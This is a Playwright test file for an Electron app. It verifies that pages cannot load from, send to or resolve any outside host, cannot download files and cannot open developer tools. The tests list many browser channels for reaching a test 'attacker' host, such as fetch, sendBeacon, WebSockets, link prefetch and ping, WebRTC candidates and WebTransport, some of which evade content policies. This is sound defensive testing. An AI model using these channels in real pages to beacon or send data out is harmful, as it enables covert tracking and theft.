/** Pages load nothing from anywhere, send nothing anywhere, and save nothing: three layers, each attacked by itself. */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect } from '@playwright/test';
import { temporaryFolder } from '../checkpoints.ts';
import { runInPage, settle, test, windowUrls } from './attacker.ts';

/** Every way in which a page can name something on another host. `http` stands for its address. */
const REACHING_OUT: Readonly<Record<string, string>> = {
  'img-src': 'new Image().src = http',
  'script-src-elem': "append('script', { src: http })",
  'style-src-elem': "append('link', { rel: 'stylesheet', href: http })",
  'frame-src': "append('iframe', { src: http })",
  'object-src': "append('object', { data: http }); append('embed', { src: http })",
  'media-src': "append('video', { src: http }); append('audio', { src: http }).load()",
  'font-src': "new FontFace('x', `url(${http})`).load().catch(() => {})",
  'form-action': "append('form', { action: http, method: 'post' }).submit()",
  'connect-src': `
    fetch(http, { mode: 'no-cors' }).catch(() => {});
    const xhr = new XMLHttpRequest(); xhr.open('GET', http); xhr.onerror = () => {}; xhr.send();
    new WebSocket(http.replace('http', 'ws'));
    new EventSource(http);
    navigator.sendBeacon(http, 'x')`,
};
/** Ways that no content policy knows. */
const UNSEEN: readonly string[] = [
  "append('link', { rel: 'preconnect', href: http })",
  "append('link', { rel: 'dns-prefetch', href: 'http://looked-up.example/' })",
  "append('link', { rel: 'prefetch', href: http })",
  "append('link', { rel: 'prerender', href: http })",
  "append('link', { rel: 'modulepreload', href: http })",
  "append('link', { rel: 'preload', as: 'image', href: http })",
  "append('link', { rel: 'icon', href: http })",
  "append('link', { rel: 'manifest', href: http })",
  "append('a', { href: '#', ping: http }).click()",
  'document.body.style.backgroundImage = `url(${http})`; document.body.style.cursor = `url(${http}), auto`',
  'import(http).catch(() => {})',
  "navigator.serviceWorker.register('/index.html').then(() => registered.push('service worker'), () => {})",
  `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + udp },
    { urls: 'turn:' + http.slice(7, -1) + '?transport=tcp', username: 'a', credential: 'b' }] });
  peer.createDataChannel('x');
  peer.onicecandidate = ({ candidate }) => { if (candidate) registered.push(candidate.candidate); };
  peer.createOffer().then((offer) => peer.setLocalDescription(offer))`,
  "const to = new WebTransport(http.replace('http', 'https')); to.ready.catch(() => {}); to.closed.catch(() => {})",
];

const PRELUDE = (host: string, udp: string): string => `
  const http = 'http://${host}/', udp = '${udp}';
  window.violated = []; window.registered = [];
  document.addEventListener('securitypolicyviolation', (event) => violated.push(event.effectiveDirective));
  const append = (name, fields) => { const made = Object.assign(document.createElement(name), fields); document.body.append(made); return made; };
  const attempt = (run) => { try { run(); } catch {} };`;

const attempts = [...Object.values(REACHING_OUT), ...UNSEEN].map((code) => `attempt(() => { ${code} });`).join('\n');

test('the page’s policy refuses whatever reaches out', async ({ shardloom: { app, page }, attacker }) => {
  const log = join(temporaryFolder(), 'net.json');
  await app.evaluate(({ session }, file) => session.defaultSession.netLog.startLogging(file), log);
  await runInPage(app, PRELUDE(attacker.host, attacker.udp) + attempts);
  await settle();
  await settle();
  const found = await page.evaluate(() => ({ ...(window as unknown as { violated: string[]; registered: string[] }) }));
  await app.evaluate(({ session }) => session.defaultSession.netLog.stopLogging());
  for (const directive of Object.keys(REACHING_OUT)) expect(found.violated, directive).toContain(directive);
  // A service worker would stay; an address that a candidate names would be this machine's.
  expect(found.registered).toEqual([]);
  expect(attacker.heard()).toBe(0);
  expect(readFileSync(log, 'utf8')).not.toContain('looked-up.example');
  expect(await windowUrls(app)).toEqual([page.url()]);
});

test('without a policy the session refuses it', async ({ shardloom: { app, page: _ }, attacker }) => {
  const script = PRELUDE(attacker.host, attacker.udp) + attempts;
  const failed = await app.evaluate(async ({ BrowserWindow, session }, code) => {
    const errors: string[] = [];
    session.defaultSession.webRequest.onErrorOccurred(({ url, error, resourceType }) => {
      errors.push(`${new URL(url).protocol} ${resourceType} ${error}`);
    });
    // A page that is not the app's own: no policy, no preload script.
    const window = new BrowserWindow({ show: false });
    await window.loadURL('data:text/html,<body>foreign</body>');
    await window.webContents.executeJavaScript(`${code}; 0`, true);
    await new Promise((resolve) => setTimeout(resolve, 1500));
    window.destroy();
    return [...new Set(errors)];
  }, script);
  expect(failed.filter((error) => !error.endsWith('net::ERR_BLOCKED_BY_CLIENT'))).toEqual([]);
  // Frames do not come so far: they are navigations, which are refused before.
  for (const type of ['image', 'script', 'stylesheet', 'media', 'font', 'xhr', 'ping']) {
    expect(failed).toContain(`http: ${type} net::ERR_BLOCKED_BY_CLIENT`);
  }
  expect(failed).toContain('ws: webSocket net::ERR_BLOCKED_BY_CLIENT');
  expect(attacker.heard()).toBe(0);
});

test('where neither refuses it no host is found', async ({ shardloom: { app, page: _ }, attacker }) => {
  const script = PRELUDE(attacker.host, attacker.udp) + attempts;
  const found = await app.evaluate(
    async ({ BrowserWindow, session }, { code, url }) => {
      // A session of its own: none of the app's guards.
      const other = session.fromPartition('unguarded');
      const window = new BrowserWindow({ show: false, webPreferences: { session: other } });
      await window.loadURL('data:text/html,<body>foreign</body>');
      await window.webContents.executeJavaScript(`${code}; 0`, true);
      await new Promise((resolve) => setTimeout(resolve, 1500));
      window.destroy();
      const reason = (promise: Promise<unknown>): Promise<string> => promise.then(String, String);
      return Promise.all([
        reason(other.resolveHost('localhost')),
        reason(other.resolveHost('127.0.0.1')),
        reason(other.fetch(url)),
      ]);
    },
    { code: script, url: `http://${attacker.host}/` },
  );
  for (const reason of found) expect(reason).toContain('ERR_NAME_NOT_RESOLVED');
  expect(attacker.heard()).toBe(0);
});

test('downloads are refused', async ({ shardloom: { app, page }, attacker }) => {
  const folder = temporaryFolder();
  await app.evaluate(({ session, app: electron }, downloads) => {
    electron.setPath('downloads', downloads);
    const prevented: boolean[] = [];
    Object.assign(globalThis, { prevented });
    session.defaultSession.on('will-download', (event) => prevented.push(event.defaultPrevented));
  }, folder);
  const hrefs = [
    "'data:text/plain,x'",
    "URL.createObjectURL(new Blob(['x']))",
    "'/index.html'",
    `'http://${attacker.host}/'`,
  ];
  for (const href of hrefs) {
    await runInPage(
      app,
      `document.body.append(Object.assign(document.createElement('a'), { href: ${href}, download: 'saved', id: 'save' })); save.click(); save.remove();`,
    );
    await settle();
  }
  await app.evaluate(({ BrowserWindow }) => {
    BrowserWindow.getAllWindows()[0]!.webContents.downloadURL('app://shardloom/index.html');
  });
  await settle();
  const prevented = await app.evaluate(() => (globalThis as unknown as { prevented: boolean[] }).prevented);
  expect(prevented.length).toBeGreaterThan(1);
  expect(prevented.filter((was) => !was)).toEqual([]);
  expect(readdirSync(folder)).toEqual([]);
  expect(attacker.heard()).toBe(0);
  expect(await windowUrls(app)).toEqual([page.url()]);
});

test('developer tools stay shut in what is shipped', async ({ shardloom: { app } }) => {
  const opened = await app.evaluate(async ({ BrowserWindow, Menu }) => {
    const { webContents } = BrowserWindow.getAllWindows()[0]!;
    webContents.openDevTools({ mode: 'detach' });
    await new Promise((resolve) => setTimeout(resolve, 700));
    const roles = Menu.getApplicationMenu()!.items.flatMap(
      ({ submenu }) => submenu?.items.map(({ role }) => role) ?? [],
    );
    return { isOpen: webContents.isDevToolsOpened(), inMenu: roles.includes('toggledevtools' as never) };
  });
  expect(opened).toEqual({ isOpen: false, inMenu: false });
});
